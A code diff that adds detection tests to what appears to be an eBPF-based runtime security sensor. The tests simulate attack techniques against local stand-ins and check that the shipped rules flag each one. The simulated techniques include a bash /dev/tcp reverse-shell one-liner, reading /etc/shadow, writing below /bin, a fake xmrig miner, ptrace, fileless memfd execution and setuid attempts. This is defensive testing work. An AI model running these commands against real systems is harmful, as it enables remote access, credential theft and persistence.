@@ -383,6 +383,84 @@ def test_hostile_bytes_in_names_survive(everything, tmp_path):
     assert back == name
 
 
+SHIPPED = os.path.join(ROOT, "rules", "tocsin_rules.yaml")
+
+
+def reverse_shell(_):
+    listener = socket.create_server(("127.0.0.1", 0))
+    shell = subprocess.Popen(
+        ["bash", "-c", f"exec bash -i <>/dev/tcp/127.0.0.1/{listener.getsockname()[1]} >&0 2>&0"],
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    listener.accept()[0].close()
+    shell.wait()
+    listener.close()
+
+
+def shell_on_a_socket(_):
+    """By a program that no rule knows: only what the shell was started with tells."""
+    left, right = socket.socketpair()
+    listener = socket.create_server(("127.0.0.1", 0))
+    client = socket.create_connection(listener.getsockname())
+    subprocess.run(["sh", "-c", "true"], stdin=client, check=True)
+    for end in (left, right, listener, client):
+        end.close()
+
+
+def plant(_):
+    path = f"/bin/surprise-{uuid.uuid4().hex[:8]}"
+    subprocess.run(["touch", path], check=True)
+    os.unlink(path)
+
+
+def mine(tmp_path):
+    shutil.copy("/bin/sleep", tmp_path / "xmrig")
+    subprocess.run([tmp_path / "xmrig", "0"], check=True)
+
+
+def trace(_):
+    victim = subprocess.Popen(["sleep", "30"])
+    python(f"import ctypes; ctypes.CDLL(None).ptrace(16, {victim.pid}, 0, 0)")
+    victim.kill()
+    victim.wait()
+
+
+def run_from_memory(_):
+    python("import os\nfd = os.memfd_create('ghost')\n"
+           "os.write(fd, open('/bin/true', 'rb').read())\nos.execve(fd, ['ghost'], {})\n")
+
+
+def set_bit(tmp_path):
+    shutil.copy("/bin/true", tmp_path / "suid")
+    subprocess.run(["chmod", "u+s", tmp_path / "suid"], check=True)
+
+
+def escalate(_):
+    python("import os\nos.setuid(65534)\ntry: os.setuid(0)\nexcept OSError: pass\n")
+
+
+@needs_ebpf
+@pytest.mark.parametrize("act, want", [
+    (plant, {"evt__type": "openat", "proc__name": "touch"}),
+    (lambda _: subprocess.run(["cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=True),
+     {"fd__name": "/etc/shadow", "proc__name": "cat"}),
+    (reverse_shell, {"evt__type": "connect", "proc__name": "bash"}),
+    (reverse_shell, {"evt__type": "dup2", "fd__type": "ipv4"}),
+    (shell_on_a_socket, {"evt__type": "execve", "proc__name": "sh", "proc__stdin__type": "ipv4"}),
+    (mine, {"evt__type": "execve", "proc__name": "xmrig"}),
+    (lambda _: python("import socket; socket.socket().connect_ex(('127.0.0.1', 3333))"),
+     {"evt__type": "connect", "fd__sport": 3333}),
+    (trace, {"evt__type": "ptrace"}),
+    (run_from_memory, {"evt__type": "execveat", "proc__is_exe_from_memfd": True}),
+    (set_bit, {"evt__arg__mode": lambda mode: mode and "S_ISUID" in mode}),
+    (escalate, {"evt__type": "setuid", "evt__res": "EPERM"}),
+], ids=["write below bin", "shadow", "reverse shell connects", "reverse shell dups",
+        "shell on a socket", "miner", "pool port", "ptrace", "fileless", "setuid bit", "setuid"])
+def test_the_shipped_rules_let_a_technique_through(receiver, sensors, tmp_path, act, want):
+    sensors(receiver.port, "--rules", SHIPPED)
+    act(tmp_path)
+    wait_for(lambda: receiver.find(**want), what=str(want))
+
+
 # ---- accounting and delivery ----
 
 
